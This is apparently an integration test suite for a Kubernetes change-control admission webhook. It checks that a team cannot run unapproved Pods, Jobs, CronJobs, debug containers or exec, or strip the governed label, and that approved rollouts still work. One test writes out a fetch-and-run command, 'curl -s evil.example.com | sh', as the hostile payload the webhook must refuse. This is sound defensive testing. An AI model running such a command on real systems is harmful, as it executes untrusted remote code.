"""Issue 10, item 1: every way to run new code in a governed namespace is decided.

Each attack is made as the product team (product-dev-1: `edit` in the namespace
and the requester role) on the local control plane: bare Pods, ReplicaSets,
Jobs and CronJobs, a forged ownerReference, `kubectl debug`, exec, and taking
the governed label off. Next to each, the legitimate path: a governed
Deployment still rolls out under its change, its controllers' ReplicaSets and
Pods pass, a declared Pod runs, an emergency member debugs (recorded).
"""

from __future__ import annotations

import copy
import json
import ssl
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.integration.conftest import Governed, service_on_call
from tests.integration.test_cli import Cli, succeeded
from tests.support.localcluster import LocalCluster
from tests.support.polling import wait_for
from tests.support.scenario import (
    IMAGE_V2,
    change_request,
    decide,
    deployment,
    events_for,
    get,
    set_image,
)
from tests.support.tls import issue_serving_certificate

pytestmark = pytest.mark.integration

REFUSED = "no approved ChangeRequest"
KCM = "system:serviceaccount:kube-system:"


def apply(cluster: LocalCluster, body: dict[str, Any], user: str = "product-dev-1") -> Any:
    return cluster.kubectl("apply", "-f", "-", input=json.dumps(body), user=user, check=False)


def pod_spec(image: str = IMAGE_V2) -> dict[str, Any]:
    return {"containers": [{"name": "api", "image": image}]}


def template(image: str = IMAGE_V2) -> dict[str, Any]:
    return {"metadata": {"labels": {"app": "payments-api"}}, "spec": pod_spec(image)}


def bodies(ns: str, image: str = IMAGE_V2) -> dict[str, dict[str, Any]]:
    """One object of each kind that runs code, with the Service's labels."""
    meta = {"namespace": ns, "labels": {"app": "payments-api"}}
    job_spec = {
        "template": {**template(image), "spec": {**pod_spec(image), "restartPolicy": "Never"}}
    }
    return {
        "Pod": {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "side", **meta},
                "spec": pod_spec(image)},
        "ReplicaSet": {"apiVersion": "apps/v1", "kind": "ReplicaSet",
                       "metadata": {"name": "side", **meta},
                       "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "side"}},
                                "template": {**template(image),
                                             "metadata": {"labels": {"app": "side"}}}}},
        "Job": {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "side", **meta},
                "spec": job_spec},
        "CronJob": {"apiVersion": "batch/v1", "kind": "CronJob",
                    "metadata": {"name": "side", **meta},
                    "spec": {"schedule": "*/5 * * * *", "jobTemplate": {"spec": job_spec}}},
    }  # fmt: skip


def workloads(ns: str, command: list[str]) -> dict[str, dict[str, Any]]:
    """Every kind that runs code, new, running IMAGE_V2 with `command`: what a team creates."""
    found = bodies(ns)
    selector = {"matchLabels": {"app": "side"}}
    side = {"metadata": {"labels": {"app": "side"}}, "spec": pod_spec()}
    for kind in ("Deployment", "StatefulSet", "DaemonSet"):
        spec = {"selector": selector, "template": copy.deepcopy(side)}
        if kind == "StatefulSet":
            spec["serviceName"] = "side"
        found[kind] = {"apiVersion": "apps/v1", "kind": kind,
                       "metadata": {"name": "side", "namespace": ns}, "spec": spec}  # fmt: skip
    for body in found.values():
        for container in containers_of(body):
            container["command"] = list(command)
    return found


def containers_of(body: dict[str, Any]) -> list[dict[str, Any]]:
    spec = body["spec"]
    if body["kind"] == "CronJob":
        spec = spec["jobTemplate"]["spec"]
    pod: dict[str, Any] = spec if body["kind"] == "Pod" else spec["template"]["spec"]
    containers: list[dict[str, Any]] = pod["containers"]
    return containers


def change_for(ns: str, name: str, kind: str, image: str = IMAGE_V2) -> str:
    body = json.loads(change_request(ns, name, image))
    body["spec"]["targets"][0].update({"kind": kind, "name": "side"})
    return json.dumps(body)


def approved(cluster: LocalCluster, ns: str, name: str, change: str) -> None:
    cluster.kubectl("apply", "-f", "-", input=change, user="product-dev-1")
    assert decide(cluster, ns, name, "change-manager-1").returncode == 0


# -- who writes for whom -----------------------------------------------------------


class _Seen:
    def __init__(self) -> None:
        self.requests: list[dict[str, Any]] = []


@pytest.fixture
def recorder(tmp_path: Path) -> Iterator[tuple[int, bytes, _Seen]]:
    """An HTTPS webhook on 127.0.0.1 that allows everything and keeps each request."""
    cert = issue_serving_certificate(tmp_path / "tls")
    seen = _Seen()

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            review = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            seen.requests.append(review["request"])
            body = json.dumps(
                {
                    "apiVersion": "admission.k8s.io/v1",
                    "kind": "AdmissionReview",
                    "response": {"uid": review["request"]["uid"], "allowed": True},
                }
            ).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(str(cert.cert_file), str(cert.key_file))
    server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1], cert.ca_pem, seen
    server.shutdown()


def test_kubernetes_controllers_write_replicasets_and_pods_as_their_own_service_accounts(
    cluster: LocalCluster, namespace: str, recorder: tuple[int, bytes, _Seen]
) -> None:
    """What the chart's matchConditions and the first rule rely on, seen on the real API server."""
    import base64

    port, ca, seen = recorder
    name = f"recorder-{namespace}"
    config = {
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": "ValidatingWebhookConfiguration",
        "metadata": {"name": name},
        "webhooks": [
            {
                "name": "recorder.test.changegate.io",
                "clientConfig": {
                    "url": f"https://127.0.0.1:{port}/",
                    "caBundle": base64.b64encode(ca).decode(),
                },
                "rules": [
                    {
                        "apiGroups": ["", "apps"],
                        "apiVersions": ["v1"],
                        "operations": ["CREATE"],
                        "resources": ["pods", "replicasets"],
                    }
                ],
                "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": namespace}},
                "failurePolicy": "Ignore",
                "sideEffects": "None",
                "admissionReviewVersions": ["v1"],
            }
        ],
    }
    cluster.kubectl("apply", "-f", "-", input=json.dumps(config))
    try:
        wait_for(
            lambda: (
                cluster.kubectl("-n", namespace, "run", "probe", "--image=x", "--dry-run=server")
                and any(r.get("dryRun") for r in seen.requests)
            ),
            message="the API server to call the recorder",
        )
        cluster.kubectl("apply", "-f", "-", input=deployment(namespace))

        def creators() -> set[tuple[str, str]] | None:
            found = {
                (r["kind"]["kind"], r["userInfo"]["username"])
                for r in seen.requests
                if not r.get("dryRun")
            }
            return found if {kind for kind, _ in found} == {"Pod", "ReplicaSet"} else None

        created = wait_for(creators, message="the ReplicaSet and its Pods to be created")
    finally:
        cluster.kubectl("delete", "validatingwebhookconfiguration", name)
    assert created == {
        ("ReplicaSet", KCM + "deployment-controller"),
        ("Pod", KCM + "replicaset-controller"),
    }


# -- people's writes of the other kinds ------------------------------------------------


@pytest.mark.parametrize("kind", ["Pod", "ReplicaSet", "Job", "CronJob"])
def test_the_team_cannot_run_code_around_its_deployment(
    cluster: LocalCluster, governed_running: Governed, kind: str
) -> None:
    ns = governed_running.namespace
    refused = apply(cluster, bodies(ns)[kind])
    assert refused.returncode != 0
    assert REFUSED in refused.stderr
    assert f"{kind}/side" in refused.stderr


def test_a_forged_owner_reference_is_decided_as_the_user(
    cluster: LocalCluster, governed_running: Governed
) -> None:
    ns = governed_running.namespace
    replicaset = get(cluster, ns, "replicasets")["items"][0]["metadata"]
    pod = bodies(ns)["Pod"]
    pod["metadata"]["ownerReferences"] = [
        {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": replicaset["name"],
         "uid": replicaset["uid"], "controller": True}
    ]  # fmt: skip
    refused = apply(cluster, pod)
    assert refused.returncode != 0
    assert REFUSED in refused.stderr


def test_an_image_edit_of_a_running_pod_is_a_rollout(
    cluster: LocalCluster, governed_running: Governed
) -> None:
    ns = governed_running.namespace
    pod = get(cluster, ns, "pods")["items"][0]["metadata"]["name"]
    edited = cluster.kubectl(
        "-n", ns, "set", "image", f"pod/{pod}", f"api={IMAGE_V2}", user="product-dev-1", check=False
    )
    assert edited.returncode != 0
    assert REFUSED in edited.stderr


ALL_KINDS = ["Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "Pod", "Job", "CronJob"]


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_an_images_only_change_does_not_cover_a_new_workload(
    cluster: LocalCluster, governed_running: Governed, kind: str
) -> None:
    """Gap 3: the change declares the image; the new object brings its own command."""
    ns = governed_running.namespace
    approved(cluster, ns, "side-1", change_for(ns, "side-1", kind))
    evil = workloads(ns, ["sh", "-c", "curl -s evil.example.com | sh"])[kind]
    refused = wait_for(
        lambda: (r := apply(cluster, evil)).returncode != 0 and "declares images only" in r.stderr
        and r,
        message=f"the approved images-only change to reach the webhook and the {kind} refused",
    )  # fmt: skip
    assert f"a new {kind} runs its whole pod template (this one hashes to sha256:" in refused.stderr
    assert "--from-file MANIFEST" in refused.stderr
    assert cluster.kubectl("-n", ns, "get", kind.lower(), "side", check=False).returncode != 0


def declared_from_file(cluster: LocalCluster, tmp_path: Path, body: dict[str, Any]) -> str:
    """The pipeline's path: `changegate request --from-file` the manifest it applies."""
    path = tmp_path / "side.yaml"
    path.write_text(json.dumps(body))
    cli = Cli(cluster, tmp_path)
    args = ("request", "--service", "payments-api", "--from-file", str(path), "--name", "side-2")
    name = succeeded(cli.run("product-dev-1", *args)).strip()
    assert decide(cluster, body["metadata"]["namespace"], name, "change-manager-1").returncode == 0
    return name


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_a_change_declaring_the_template_lets_the_kind_run(
    cluster: LocalCluster, governed_running: Governed, kind: str, tmp_path: Path
) -> None:
    ns = governed_running.namespace
    body = workloads(ns, ["serve", "--port", "8080"])[kind]
    name = declared_from_file(cluster, tmp_path, body)
    target = get(cluster, ns, f"changerequest/{name}")["spec"]["targets"][0]
    assert (target["kind"], target["podTemplateHash"][:7]) == (kind, "sha256:")
    created = wait_for(
        lambda: (r := apply(cluster, body)).returncode == 0 and r,
        message=f"the change declaring the template to admit the {kind}",
    )
    assert "created" in created.stdout
    stamped = get(cluster, ns, f"{kind.lower()}/side")["metadata"]["annotations"]
    assert stamped["changegate.io/change-request"] == name


def test_a_governed_deployment_still_rolls_out_through_its_controllers(
    cluster: LocalCluster, governed_running: Governed
) -> None:
    ns = governed_running.namespace
    approved(cluster, ns, "api-1-1-0", change_request(ns, "api-1-1-0", IMAGE_V2))
    wait_for(lambda: set_image(cluster, ns, IMAGE_V2).returncode == 0, message="the rollout")
    status = cluster.kubectl("-n", ns, "rollout", "status", "deployment/payments-api",
                             "--timeout=60s")  # fmt: skip
    assert "successfully rolled out" in status.stdout
    images = {
        p["spec"]["containers"][0]["image"]
        for p in get(cluster, ns, "pods")["items"]
        if not p["metadata"].get("deletionTimestamp")
    }
    assert images == {IMAGE_V2}


# -- debug and exec ------------------------------------------------------------------------


def a_pod(cluster: LocalCluster, ns: str) -> str:
    return str(get(cluster, ns, "pods")["items"][0]["metadata"]["name"])


def debug(cluster: LocalCluster, ns: str, pod: str, user: str, name: str) -> Any:
    return cluster.kubectl(
        "-n", ns, "debug", f"pod/{pod}", "--image=busybox:1.36", f"--container={name}",
        "--profile=general", user=user, check=False,
    )  # fmt: skip


def test_kubectl_debug_is_for_the_emergency_group_and_recorded(
    cluster: LocalCluster, governed_running: Governed
) -> None:
    ns = governed_running.namespace
    # `edit` does not grant debugging; a platform that lets its teams debug adds a Role like this.
    cluster.kubectl("-n", ns, "create", "role", "debug", "--verb=get,patch,update",
                    "--resource=pods/ephemeralcontainers")  # fmt: skip
    cluster.kubectl("-n", ns, "create", "rolebinding", "debug", "--role=debug",
                    "--group=team-payments")  # fmt: skip
    pod = a_pod(cluster, ns)
    refused = wait_for(
        lambda: (
            (r := debug(cluster, ns, pod, "product-dev-1", "dbg-team")).stderr
            and "forbidden: User" not in r.stderr
            and r
        ),
        message="the debug Role to take effect",
    )
    assert refused.returncode != 0
    assert "kubectl debug" in refused.stderr
    assert "payments-emergency" in refused.stderr

    allowed = debug(cluster, ns, pod, "oncall-1", "dbg-oncall")
    assert allowed.returncode == 0, allowed.stderr
    containers = get(cluster, ns, f"pod/{pod}")["spec"]["ephemeralContainers"]
    assert [c["name"] for c in containers] == ["dbg-oncall"]
    event = wait_for(
        lambda: next(
            (e for e in events_for(cluster, ns, pod) if e["reason"] == "EphemeralContainer"), None
        ),
        message="the debug to be recorded on the pod",
    )
    assert "oncall-1" in event["message"]


def test_exec_is_recorded_and_refusable_by_policy(
    cluster: LocalCluster, governed_running: Governed
) -> None:
    ns = governed_running.namespace
    pod = a_pod(cluster, ns)
    # The fake nodes cannot run the command; admission has decided before the node is asked.
    cluster.kubectl("-n", ns, "exec", "--request-timeout=10s", pod, "--", "cat", "/etc/hostname",
                    user="product-dev-1", check=False)  # fmt: skip
    event = wait_for(
        lambda: next((e for e in events_for(cluster, ns, pod) if e["reason"] == "Exec"), None),
        message="the exec to be recorded on the pod",
    )
    assert "product-dev-1" in event["message"]
    assert "cat /etc/hostname" in event["message"]

    refusing = service_on_call(ns, exec="Refuse")
    cluster.kubectl("apply", "-f", "-", input=json.dumps(refusing), user="platform-admin-1")
    refused = wait_for(
        lambda: (
            (
                r := cluster.kubectl(
                    "-n",
                    ns,
                    "exec",
                    "--request-timeout=10s",
                    pod,
                    "--",
                    "true",
                    user="product-dev-1",
                    check=False,
                )
            )
            and "refuses exec and attach" in r.stderr
            and r
        ),
        message="the policy to refuse exec",
    )
    assert refused.returncode != 0


# -- the governed label ----------------------------------------------------------------------


def test_the_governed_label_stays_unless_a_platform_admin_removes_it(
    cluster: LocalCluster, governed: Governed
) -> None:
    ns = governed.namespace
    # A team that may patch namespaces (a ClusterRole it should not have) is still refused.
    cluster.kubectl("create", "clusterrole", f"ns-patch-{ns}", "--verb=get,patch,update",
                    "--resource=namespaces")  # fmt: skip
    cluster.kubectl("create", "clusterrolebinding", f"ns-patch-{ns}",
                    f"--clusterrole=ns-patch-{ns}", "--user=product-dev-1")  # fmt: skip
    try:
        refused = wait_for(
            lambda: (
                (
                    r := cluster.kubectl(
                        "label",
                        "namespace",
                        ns,
                        "changegate.io/governed-",
                        user="product-dev-1",
                        check=False,
                    )
                )
                and "may not remove changegate.io/governed" in r.stderr
                and r
            ),
            message="the webhook to refuse the label's removal",
        )
        assert "ask a platform admin" in refused.stderr
        other = cluster.kubectl("label", "namespace", ns, "team=payments", user="product-dev-1")
        assert other.returncode == 0
    finally:
        cluster.kubectl("delete", "clusterrolebinding", f"ns-patch-{ns}")
        cluster.kubectl("delete", "clusterrole", f"ns-patch-{ns}")
    removed = cluster.kubectl("label", "namespace", ns, "changegate.io/governed-",
                              user="platform-admin-1")  # fmt: skip
    assert removed.returncode == 0
    labels = get(cluster, ns, f"namespace/{ns}")["metadata"]["labels"]
    assert "changegate.io/governed" not in labels
